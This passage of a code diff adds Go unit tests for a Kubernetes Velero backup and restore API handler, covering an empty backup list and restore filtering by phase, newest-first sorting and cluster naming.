+		if w.Code != tt.status {
+			t.Errorf("%s: status = %d, want %d\n%s", tt.backup, w.Code, tt.status, w.Body.String())
+			continue
+		}
+		if code := decodeBody(t, w)["code"]; code != tt.code {
+			t.Errorf("%s: code = %v, want %s", tt.backup, code, tt.code)
+		}
+	}
+}
+
+// withVeleroInstalled makes the fake discovery report the Velero API group
+func withVeleroInstalled(client *k8s.Client) *k8s.Client {
+	client.Clientset.(*fake.Clientset).Resources = []*metav1.APIResourceList{{GroupVersion: "velero.io/v1"}}
+	return client
+}
+
+func TestListBackupsEmpty(t *testing.T) {
+	handler := NewVeleroHandler(withVeleroInstalled(newTestClient()), nil)
+
+	w := serve(handler.ListBackups, http.MethodGet, "/api/v1/backups", nil, nil, "viewer")
+	assertStatus(t, w, http.StatusOK)
+	if body := strings.TrimSpace(w.Body.String()); body != `{"backups":[],"count":0}` {
+		t.Errorf("body = %s, want an empty backup list", body)
+	}
+}
+
+func TestListRestoresFiltersAndSorts(t *testing.T) {
+	now := time.Now().Truncate(time.Second)
+	restore := func(name, phase string, age time.Duration) *unstructured.Unstructured {
+		obj := newUnstructured("velero.io/v1", "Restore", "velero", name, map[string]interface{}{
+			"spec":   map[string]interface{}{"backupName": "prod-daily-backup-20260301020000"},
+			"status": map[string]interface{}{"phase": phase},
+		})
+		obj.SetCreationTimestamp(metav1.NewTime(now.Add(-age)))
+		return obj
+	}
+	client := withVeleroInstalled(newTestClient(
+		restore("old", "Completed", 2*time.Hour),
+		restore("new", "Completed", time.Hour),
+		restore("failed", "Failed", 30*time.Minute),
+	))
+	handler := NewVeleroHandler(client, nil)
+
+	w := serve(handler.ListRestores, http.MethodGet, "/api/v1/restores?phase=completed", nil, nil, "viewer")
+	assertStatus(t, w, http.StatusOK)
+
+	var list RestoreList
+	if err := json.Unmarshal(w.Body.Bytes(), &list); err != nil {
+		t.Fatal(err)
+	}
+	if list.Count != 2 || len(list.Restores) != 2 || list.Restores[0].Name != "new" || list.Restores[1].Name != "old" {
+		t.Fatalf("restores = %+v, want new then old", list.Restores)
+	}
+	if list.Restores[0].Cluster != "prod" {
+		t.Errorf("cluster = %q, want prod from the backup name", list.Restores[0].Cluster)
+	}
+}